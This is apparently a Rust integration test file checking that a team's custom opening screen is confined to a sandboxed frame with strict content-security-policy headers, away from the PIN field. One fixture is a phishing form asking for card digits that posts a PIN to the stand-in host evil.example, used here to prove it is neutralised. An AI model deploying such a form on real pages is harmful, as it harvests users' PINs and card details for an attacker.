//! A team's own opening screen before a PIN is asked for: in a frame that may do nothing, and never on
//! the page that holds the field.

use axum::body::Body;
use serde_json::json;

use super::{Visitor, invited, open, team};
use crate::world::{Team, World};

async fn screen(team: &Team, page: &str) {
    let request = http::Request::builder()
        .method("PUT")
        .uri("/v1/teams/acme/screens/hint")
        .header("authorization", format!("Bearer {}", team.admin))
        .header("content-type", "text/html");
    let made = team.world.send(request.body(Body::from(page.to_owned())).unwrap()).await;
    assert_eq!(made.status, 201, "{}", made.text());
    team.set(json!({"pin": {"opening_screen": "hint"}})).await;
}

/// L-36, L-38, L-39, P-06, A082: an admin writes a page and names it in the settings; the hint is seen before Continue, the field after it.
#[tokio::test]
async fn a082_the_teams_words_stand_in_a_frame_away_from_the_field() {
    let world = World::new().await;
    let team = team(&world, json!({"require_authentication": true, "first": "pin"})).await;
    screen(&team, "<p>Enter the <b>last four digits</b> of your card</p><form action=https://evil.example><input name=pin></form>").await;
    let chat = open(&team, "conv-1").await;
    let url = invited(&team, &chat, json!({"via": "sms", "pin": "1234"})).await;
    let mut visitor = Visitor::at(&world, &url).await;
    let path = url.strip_prefix(crate::world::URL).unwrap();
    visitor.sees(200, &format!("src=\"{path}/screen\" sandbox=\"\""));
    assert!(!visitor.page.text().contains("last four"), "the words are the frame's");
    let policy = visitor.page.header("content-security-policy");
    assert!(policy.contains("frame-src 'self'"), "{policy}");
    let mut frame = Visitor::with(visitor.browser.clone(), &url);
    frame.open(&format!("{path}/screen")).await;
    frame.sees(200, "last four digits");
    let policy = frame.page.header("content-security-policy");
    assert!(policy.starts_with("sandbox;") && policy.contains("form-action 'none'"), "{policy}");
    assert!(!frame.page.text().contains("evil.example") && !frame.page.text().contains("<input"));

    visitor.goes_on().await.sees(200, "Enter your number");
    assert!(!visitor.page.text().contains("<iframe"), "never beside the field");
    let policy = visitor.page.header("content-security-policy");
    assert!(policy.contains("frame-src 'none'"), "{policy}");
    let stranger = Visitor::at(&world, "/c/x/screen").await;
    assert_eq!(stranger.page.status, 404);
}

#[tokio::test]
async fn other_methods_have_the_pages_own_words() {
    let world = World::new().await;
    let team = team(&world, json!({"require_authentication": true, "first": "otp"})).await;
    screen(&team, "<p>Enter the last four digits</p>").await;
    let chat = open(&team, "conv-1").await;
    let url = invited(&team, &chat, json!({"via": "sms"})).await;
    let visitor = Visitor::at(&world, &url).await;
    assert!(!visitor.page.text().contains("<iframe"));
    assert_eq!(Visitor::at(&world, &format!("{url}/screen")).await.page.status, 404);
}
